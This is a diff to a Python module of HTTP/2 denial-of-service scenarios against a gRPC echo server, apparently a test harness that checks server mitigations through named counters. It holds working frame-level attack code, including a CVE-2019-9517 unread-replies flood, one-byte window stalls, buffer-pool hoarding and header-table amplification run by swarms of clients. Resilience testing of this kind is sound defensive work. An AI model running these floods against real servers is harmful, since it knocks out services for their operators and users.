@@ -34,7 +34,8 @@ def calls(start, block, payload, count=100):
         yield headers(stream, block) + h2.frame(h2.DATA, h2.END_STREAM, stream, payload)
 
 
-@attack("CVE-2019-9517", what="large windows, and a socket that is never read: replies pile up in kernel memory", **STALLS)
+@attack("CVE-2019-9517", what="large windows, and a socket that is never read: replies pile up in kernel memory",
+        counters=(*STALLS["counters"], "address_streams_refused", "address_buffers_exhausted"), options=STALLS["options"])
 def unread_replies(scene):
     start = settings((h2.INITIAL_WINDOW_SIZE, ALL)) + update(0, ALL - 65535)
     scene.swarm(100, lambda: calls(start, REPLY_STREAM, message(1900, 1 << 30), 4), read=False, receive_buffer=4096)
@@ -62,10 +63,12 @@ def one_byte_windows(scene):
         counters=("write_stalls", "slow_readers", "address_buffers_exhausted"),
         options=("--write-stall-ms", 600))
 def pool_hoarding(scene):
+    block = head("/echo.Echo/Reply", [("x-large", "m" * 3000)])
+
     def pieces():
         start = settings((h2.INITIAL_WINDOW_SIZE, 1))
         yield start + SETTINGS_ACK + b"".join(
-            headers(stream, head("/echo.Echo/Reply", [("x-echo-a", "m" * 3000)])) + h2.frame(h2.DATA, h2.END_STREAM, stream, message(1900))
+            headers(stream, block) + h2.frame(h2.DATA, h2.END_STREAM, stream, message(1900))
             for stream in range(1, 201, 2)
         )
         while True:
@@ -104,7 +107,8 @@ def endless_streams(scene):
     scene.swarm(4, lambda: calls(start, REPLY_STREAM, message(100, 1 << 30), 50))
 
 
-@attack(what="an unknown path from the header table, 3,500 bytes long, that comes back in grpc-message")
+@attack(what="an unknown path from the header table, 3,500 bytes long, that comes back in grpc-message",
+        counters=("address_buffers_exhausted", "connection_streams_refused"))
 def amplified_path(scene):
     def pieces():
         yield settings() + SETTINGS_ACK
@@ -119,7 +123,7 @@ def amplified_path(scene):
 def amplified_metadata(scene):
     def pieces():
         yield settings() + SETTINGS_ACK
-        yield headers(1, learned_head((":path", "/echo.Echo/Reply"), ("x-echo-m", "m" * 3500)))
+        yield headers(1, learned_head((":path", "/echo.Echo/Reply"), ("x-echo-m", "m" * 1000)))
         yield h2.frame(h2.DATA, h2.END_STREAM, 1, message(1))
         for stream in itertools.count(3, 2):
             yield headers(stream, learned_again(2)) + h2.frame(h2.DATA, h2.END_STREAM, stream, message(1))
